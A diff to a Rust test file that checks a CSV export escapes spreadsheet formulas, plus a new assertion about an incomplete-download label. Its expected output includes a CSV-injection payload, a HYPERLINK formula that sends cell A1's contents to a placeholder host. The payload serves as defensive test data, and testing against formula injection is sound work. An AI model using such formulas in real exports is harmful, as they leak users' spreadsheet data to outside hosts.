@@ -88,9 +88,9 @@ async fn formulas_are_guarded() {
         "id,name,amount,note\r\n",
         "1,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"x\"\")\",-1.10,'+1\r\n",
         "2,'@SUM(1+1),1.10e2,'-2+3\r\n",
-        "3,\"'\t=1+1\",,\"'\r=1+1\"\r\n",
+        "3,\"'\t'=1+1\",,\"'\r'=1+1\"\r\n",
         "4,plain,9007199254740993,\"a \"\"quoted\"\", and\r\na line\"\r\n",
-        "'=5,＝6,'-7, =8\r\n",
+        "'=5,'＝6,-7, '=8\r\n",
     );
     assert_eq!(stage.file("CSV").await, expected);
 }
@@ -99,6 +99,7 @@ async fn formulas_are_guarded() {
 async fn what_broke_off_is_saved_as_far_as_it_came() {
     let stage = Stage::open(Sent::json(CUT_OFF).end(End::BrokenOff)).await;
     assert_eq!(stage.file("As sent").await, CUT_OFF);
+    assert!(stage.text().contains("Download incomplete"), "the button says so before it is pressed");
 }
 
 #[wasm_bindgen_test]
